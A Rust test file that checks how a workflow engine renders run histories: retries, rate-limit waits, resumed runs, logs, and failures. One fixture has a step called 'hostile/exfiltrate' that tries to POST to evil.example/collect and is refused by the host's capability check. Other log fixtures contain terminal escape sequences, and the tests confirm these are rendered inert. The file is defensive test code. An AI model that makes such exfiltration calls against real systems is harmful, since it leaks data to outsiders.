//! A run's renderings, as a person sees them.

use serde_json::json;

use super::{super::testing::check, Depth};
use crate::view;

fn run(document: &serde_json::Value) -> view::Run {
    view::read(document).unwrap()
}

fn triage() -> serde_json::Value {
    let cost =
        json!({ "fuel": 900_000, "peak_memory_bytes": 3_145_728, "wall_micros": 212_000, "effects": 1 });
    let post = |status: u16| json!({ "method": "POST", "url": "https://slack.com/api/chat.postMessage", "result": { "status": status }, "micros": 200_000, "sent_bytes": 310, "received_bytes": 41 });
    json!({
        "id": "01J9Z6", "flow": "triage-bugs", "flow_version": 3, "status": "done", "accepted_at": 10_000, "finished_at": 11_412,
        "ours_micros": 31000, "theirs_micros": 381000,
        "source": { "delivery_id": "72d3162e", "verified": "hmac-sha256" },
        "steps": [
            { "path": "@trigger", "kind": "trigger", "title": "trigger", "status": "done", "attempts": [
                { "n": 1, "kind": "run", "started_at": 10_001, "outcome": "done", "metering": { "fuel": 120_000, "peak_memory_bytes": 1_114_112, "wall_micros": 900 } }] },
            { "path": "route", "kind": "switch", "title": "switch", "status": "done", "output": { "case": "bug" }, "attempts": [] },
            { "path": "route/bug/tell", "kind": "action", "title": "slack/post-message", "status": "done", "output": { "ts": "1712345.678" }, "attempts": [
                { "n": 1, "kind": "run", "started_at": 10_020, "outcome": "failed", "retry_at": 11_232, "metering": cost, "effects": [post(429)],
                  "failure": { "class": "rate-limited", "message": "slow down", "http_status": 429, "retry_after_ms": 1000 } },
                { "n": 2, "kind": "run", "started_at": 11_232, "outcome": "done", "metering": cost, "effects": [post(200)],
                  "log": [{ "level": "info", "message": "posted\u{1b}[2J", "fields": "{\"channel\":\"C024BE91L\"}" }] },
            ] },
        ],
    })
}

#[test]
fn steps_attempts_and_waits() {
    check(&super::run(&run(&triage()), Depth::Steps), "
triage-bugs v3 · 01J9Z6 · done in 1.4 s (31 ms ours, 381 ms theirs)
  1  received  delivery 72d3162e   verified hmac-sha256, first seen · 120 k fuel · 1.1 MB · 900 µs
  2  route     switch              took bug
  3    tell    slack/post-message  attempt 1  429 rate limited, waited 1 s as asked · 1 write · 0.9 M fuel · 3.1 MB · 212 ms
                                   attempt 2  ok · 1 write · 0.9 M fuel · 3.1 MB · 212 ms · ts 1712345.678");
}

#[test]
fn a_resumed_run_says_that_nothing_was_sent_twice() {
    let mut document = triage();
    document["steps"][2]["attempts"] = json!([
        { "n": 1, "kind": "confirm", "started_at": 10_020, "outcome": "applied",
          "effects": [{ "method": "GET", "url": "https://slack.com/api/conversations.history", "result": { "status": 200 } }] },
    ]);
    let rendered = super::run(&run(&document), Depth::Steps);
    let plain = anstream::adapter::strip_str(&rendered).to_string();
    assert_eq!(
        plain.lines().last().unwrap(),
        "  3    tell    slack/post-message  confirm 1  found: the provider has it; not sent again · asked 1 time"
    );
}

#[test]
fn everything_adds_effects_and_inert_logs() {
    let rendered = super::run(&run(&triage()), Depth::Everything);
    let plain = anstream::adapter::strip_str(&rendered).to_string();
    let below: Vec<&str> = plain.lines().skip(5).collect();
    assert_eq!(
        below,
        [
            "  route/bug/tell attempt 1  POST slack.com/api/chat.postMessage → 429 in 200 ms · 310 B sent · 41 B received",
            "  slow down",
            "  route/bug/tell attempt 2  POST slack.com/api/chat.postMessage → 200 in 200 ms · 310 B sent · 41 B received",
            "  route/bug/tell attempt 2  info  posted\\u{1b}[2J  {\"channel\":\"C024BE91L\"}",
        ]
    );
}

#[test]
fn a_dead_run_ends_with_its_reason() {
    let document = json!({
        "id": "01J9Z7", "flow": "probe", "flow_version": 1, "status": "failed", "accepted_at": 0, "finished_at": 40,
        "steps": [{ "path": "try", "kind": "action", "title": "hostile/exfiltrate", "status": "failed", "attempts": [
            { "n": 1, "kind": "run", "outcome": "failed", "gave_up": "permanent", "metering": { "fuel": 1200, "peak_memory_bytes": 1_114_112, "wall_micros": 900 },
              "failure": { "class": "capability-denied", "message": "the host refused" },
              "effects": [{ "method": "POST", "url": "https://evil.example/collect", "result": { "denied": { "reason": "host", "message": "not in its manifest" } } }] },
        ] }],
    });
    check(
        &super::run(&run(&document), Depth::Steps),
        "
probe v1 · 01J9Z7 · failed in 40 ms
  1  received  by hand             from the API
  2  try       hostile/exfiltrate  attempt 1  capability denied · 1 denied · 1.2 k fuel · 1.1 MB · 900 µs
denied: hostile tried POST https://evil.example/collect  (host)
  not in its manifest",
    );
}

#[test]
fn items_failures_and_the_end_are_told() {
    let step = |path: &str, kind: &str, status: &str| json!({ "path": path, "kind": kind, "title": kind, "status": status, "attempts": [] });
    let mut each = step("each", "for-each", "done");
    each["output"] = json!({ "count": 2, "succeeded": 1, "failed": [{}], "results": [] });
    let mut wrong = step("each[0]/wrong", "fail", "failed");
    wrong["failure"] = json!({ "class": "not-found", "message": "no such channel" });
    let document = json!({
        "id": "01J9Z8", "flow": "loop", "flow_version": 1, "status": "done", "accepted_at": 0, "finished_at": 40,
        "source": { "verified": "run", "delivery_id": "x" }, "started_by": { "run": "01J9Z7", "step": "@on-failure" },
        "stopped": { "step": "enough", "reason": "enough\u{1b}[2J" },
        "started": [{ "run": "01J9Z9", "step": "call" }],
        "steps_left_out": 3,
        "steps": [each, wrong, step("each[1]/inner[2]/way/odd/tell", "map", "done"), step("route/bug/tell", "map", "skipped")],
    });
    check(
        &super::run(&run(&document), Depth::Steps),
        "
loop v1 · 01J9Z8 · done in 40 ms
  1  received     by a run  from @on-failure of 01J9Z7
  2  each         for-each  done · 2 items, 1 failed
  3    [0] wrong  fail      not found
  4        tell   map       done
  5    tell       map       skipped
  and 3 steps more
  stopped by enough: enough\\u{1b}[2J
  call started 01J9Z9",
    );
}
